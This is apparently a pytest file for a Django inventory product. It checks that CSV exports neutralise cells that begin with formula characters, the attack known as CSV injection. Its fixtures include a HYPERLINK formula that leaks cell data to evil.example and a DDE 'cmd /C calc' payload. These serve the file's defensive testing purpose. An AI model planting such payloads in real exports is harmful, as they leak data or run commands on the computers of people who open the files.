"""Every CSV the product writes opens in a spreadsheet without running a formula (OWASP's CSV injection)."""

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command

from backorders.formats import csv_safe
from packets.audit.export import start_bundle
from packets.audit.tasks import render_bundle
from packets.models import ExportJob
from suppliers.history import generate_history_rows, write_history_csv
from suppliers.models import PurchaseOrderLine
from tests import factories
from tests.packets.contract_content import packet_content

ROOT = Path(__file__).resolve().parent.parent
EVIL_SKU = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.mark.django_db
def test_the_audit_bundle_manifest_quotes_a_title_made_from_a_sku_starting_with_equals(
    owner, policy, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path / "media"
    product = factories.ProductFactory(sku=EVIL_SKU)
    case = factories.CaseFactory(product=product, title=product.sku)
    other = factories.CaseFactory(title="@SUM(1+1)*cmd|' /C calc'!A0")
    for c in (case, other):
        factories.PacketFactory(case=c, policy=policy, content=packet_content(policy))
    job = start_bundle(user=owner, filters={}, output=ExportJob.Output.ZIP)

    render_bundle(job.pk)

    job.refresh_from_db()
    with job.file.open("rb") as handle, zipfile.ZipFile(io.BytesIO(handle.read())) as archive:
        rows = list(csv.reader(io.StringIO(archive.read("MANIFEST.csv").decode())))
    titles = {int(row[0]): row[1] for row in rows[1:]}
    assert titles == {case.pk: "'" + EVIL_SKU, other.pk: "'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(not cell.startswith(csv_safe.FORMULA_STARTS) for row in rows for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_writers_quote_each_formula_start_and_keep_numbers_as_numbers(start):
    out = io.StringIO()
    writer = csv_safe.writer(out)
    writer.writerow([f"{start}1+2", -5, Decimal("-1.50"), None, "plain", "a=b"])
    dict_out = io.StringIO()
    dict_writer = csv_safe.DictWriter(dict_out, fieldnames=["sku", "qty"])
    dict_writer.writeheader()
    dict_writer.writerows([{"sku": f"{start}CMD", "qty": -3}])

    assert next(csv.reader(io.StringIO(out.getvalue()))) == [f"'{start}1+2", "-5", "-1.50", "", "plain", "a=b"]
    assert list(csv.reader(io.StringIO(dict_out.getvalue())))[1] == [f"'{start}CMD", "-3"]
    assert csv_safe.unescape_cell(f"'{start}CMD") == f"{start}CMD"
    assert csv_safe.unescape_cell("'quoted") == "'quoted"


@pytest.mark.django_db
def test_the_purchase_history_file_quotes_a_sku_starting_with_equals_and_reads_it_back(tmp_path, policy):
    rows = generate_history_rows(seed=3, per_supplier=2)
    for row in rows:
        row["sku"] = "=" + row["sku"]
    path = tmp_path / "history.csv"
    with path.open("w", newline="") as handle:
        write_history_csv(rows, handle)

    written = list(csv.DictReader(path.open(newline="")))
    assert {r["sku"][:2] for r in written} == {"'="}
    call_command("import_purchase_history", str(path), "--create-missing", stdout=io.StringIO())
    assert set(PurchaseOrderLine.objects.values_list("product__sku", flat=True)) == {r["sku"] for r in rows}


def test_no_product_code_writes_csv_around_the_helper():
    """Every CSV writer in the product is the helper's (a new export cannot forget the quoting)."""
    offenders = []
    for app in ("backorders", "suppliers", "packets", "config"):
        for path in (ROOT / app).rglob("*.py"):
            if path.name == "csv_safe.py":
                continue
            if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
